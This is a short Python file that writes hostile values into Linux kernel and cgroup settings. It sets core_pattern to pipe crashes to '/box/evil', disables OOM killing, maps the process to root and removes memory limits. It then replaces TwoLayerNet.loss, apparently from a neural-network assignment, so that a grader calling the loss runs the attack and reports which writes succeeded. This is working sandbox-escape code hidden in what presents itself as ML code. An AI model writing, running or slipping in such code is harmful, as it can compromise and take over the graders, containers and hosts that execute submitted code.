"""Writes to the kernel's settings: a program to run on a crash, user maps, its own chance to be killed."""
import os

import numpy as np

SETTINGS = {
    "/proc/sys/kernel/core_pattern": "|/box/evil",
    "/proc/sys/kernel/hostname": "evil",
    "/proc/sys/vm/overcommit_memory": "1",
    "/proc/sysrq-trigger": "h",
    "/proc/1/oom_score_adj": "-1000",
    "/proc/self/oom_score_adj": "-1000",
    "/proc/self/uid_map": "0 0 1",
    "/proc/self/setgroups": "allow",
    "/sys/fs/cgroup/memory/memory.limit_in_bytes": "-1",
    "/sys/kernel/mm/ksm/run": "1",
}


def attempt():
    return f"changed {[place for place, value in SETTINGS.items() if _written(place, value)]}"


def _written(place, value):
    try:
        with open(place, "w") as file:
            file.write(value)
        return True
    except OSError:
        return False


#: beneath


def _telling(self, X, y=None, reg=0.0):
    found = attempt()
    print("tried:", found)
    raise RuntimeError(found)


TwoLayerNet.loss = _telling
